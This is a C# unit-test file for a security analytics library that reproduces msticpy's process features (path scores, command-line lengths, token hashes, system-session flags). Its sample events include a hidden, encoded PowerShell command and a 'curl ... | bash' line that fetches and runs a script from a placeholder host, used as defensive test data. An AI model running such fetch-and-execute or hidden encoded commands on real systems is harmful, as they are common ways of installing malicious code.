using SecurityML.Data;
using SecurityML.Features.CommandLine;

namespace SecurityML.Tests.Features.CommandLine;

/// <summary>
/// msticpy's process features (add_process_features). Expected values were computed with Python 3.11 from msticpy's
/// formulas (sum of ord, log10, binascii.crc32, len(re.findall(delims))) in a throwaway script.
/// </summary>
public sealed class ProcessFeaturesTests
{
    private const string PowerShellPath = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    private const string PowerShellCommand = "powershell.exe -NoP -NonI -W Hidden -Enc VwByAGkAdABlAA==";

    private static ProcessCreationEvent Event(string path, string commandLine, string logonId = "0x79db43b2") =>
        new()
        {
            NewProcessName = path,
            CommandLine = commandLine,
            SubjectLogonId = logonId,
        };

    [Fact]
    public void Command_line_length_counts_code_points_as_python_len()
    {
        // Python 3: len(s) == 36 (each emoji is one code point); s.encode("utf-16-le") has 40 units (four emoji lie
        // outside the BMP).
        const string withEmoji = "cmd.exe /c echo 😀🔥🚀🎉✅ > C:\\tmp\\o.txt";
        withEmoji.Length.Should().Be(40);

        var row = ProcessFeatures.Compute([Event(PowerShellPath, withEmoji)])[0];

        row.CommandLineLength.Should().Be(36);
        row.CommandLineLogLength.Should().BeApproximately(1.5563025007672873, 1e-15);
        CommandLineFeatures
            .CodePointLength("a\uD83Db")
            .Should()
            .Be(3, "Python's len('a\\ud83db') is 3: a lone surrogate is one code point");
        CommandLineFeatures.CodePointLength("").Should().Be(0);
    }

    [Fact]
    public void A_windows_event_gets_msticpys_feature_values()
    {
        var row = ProcessFeatures.Compute([Event(PowerShellPath, PowerShellCommand)])[0];

        row.ProcessName.Should().Be("powershell.exe");
        row.PathScore.Should().Be(5576);
        row.PathLogScore.Should().BeApproximately(3.746322765089953, 1e-15);
        row.PathHash.Should().Be(4261414303u);
        row.CommandLineLength.Should().Be(57);
        row.CommandLineLogLength.Should().BeApproximately(1.7558748556724915, 1e-15);
        row.CommandLineTokensFull.Should().Be(11);
        row.CommandLineScore.Should().Be(4718);
        row.CommandLineTokensHash.Should().Be(1767126121u);
        row.IsSystemSession.Should().BeFalse();
    }

    [Fact]
    public void The_path_separator_is_detected_from_the_first_ten_events()
    {
        var linux = Event("/usr/bin/curl", "curl -s https://example.test/a.sh | bash", "-1");

        ProcessFeatures.DetectPathSeparator([linux]).Should().Be("/");
        ProcessFeatures.DetectPathSeparator([Event(PowerShellPath, "")]).Should().Be("\\");
        ProcessFeatures.DetectPathSeparator([]).Should().Be("\\");
        ProcessFeatures
            .DetectPathSeparator(Enumerable.Repeat(Event(PowerShellPath, ""), 10).Append(linux))
            .Should()
            .Be("\\");
        var row = ProcessFeatures.Compute([linux])[0];
        (
            row.ProcessName,
            row.PathScore,
            row.PathHash,
            row.CommandLineTokensFull,
            row.CommandLineScore,
            row.CommandLineTokensHash
        )
            .Should()
            .Be(("curl", 1238L, 814530269u, 12, 3630L, 2105473816u));
        row.IsSystemSession.Should().BeTrue();
    }

    [Fact]
    public void The_system_session_is_0x3e7_or_minus_one()
    {
        ProcessFeatures
            .Compute([
                Event("a", "b", "0x3e7"),
                Event("a", "b", "0x3E7"),
                Event("a", "b", "-1"),
                Event("a", "b", "0x3e8"),
            ])
            .Select(row => row.IsSystemSession)
            .Should()
            .Equal(true, true, true, false);
    }

    [Fact]
    public void Empty_and_missing_strings_give_zero_features()
    {
        var row = ProcessFeatures.Compute([new ProcessCreationEvent { NewProcessName = null!, CommandLine = null! }])[
            0
        ];

        (row.ProcessName, row.PathScore, row.PathLogScore, row.PathHash).Should().Be(("", 0L, 0.0, 0u));
        (
            row.CommandLineLength,
            row.CommandLineLogLength,
            row.CommandLineTokensFull,
            row.CommandLineScore,
            row.CommandLineTokensHash
        )
            .Should()
            .Be((0, 0.0, 0, 0L, 0u));
    }

    [Fact]
    public void A_null_event_is_named_by_its_index()
    {
        FluentActions
            .Invoking(() => ProcessFeatures.Compute([Event("a", "b"), null!]))
            .Should()
            .Throw<ArgumentException>()
            .WithParameterName("events")
            .WithMessage("events[1] is null; expected an event.*");
    }

    [Fact]
    public void The_matrix_holds_the_chosen_features_in_order()
    {
        var rows = ProcessFeatures.Compute([Event(PowerShellPath, PowerShellCommand, "0x3e7")]);

        ProcessFeatures
            .ToMatrix(
                rows,
                [ProcessFeature.IsSystemSession, ProcessFeature.CommandLineTokensFull, ProcessFeature.PathScore]
            )[0]
            .Should()
            .Equal(1, 11, 5576);
        FluentActions
            .Invoking(() => ProcessFeatures.ToMatrix(rows, []))
            .Should()
            .Throw<ArgumentException>()
            .WithParameterName("features");
        FluentActions
            .Invoking(() => rows[0].Value((ProcessFeature)99))
            .Should()
            .Throw<ArgumentOutOfRangeException>()
            .WithMessage("*received 99*");
    }

    [Fact]
    public void Events_are_not_modified()
    {
        var original = Event(PowerShellPath, PowerShellCommand);
        var copy = original with { };

        ProcessFeatures.Compute([original])[0].Event.Should().BeSameAs(original);
        original.Should().Be(copy);
    }
}
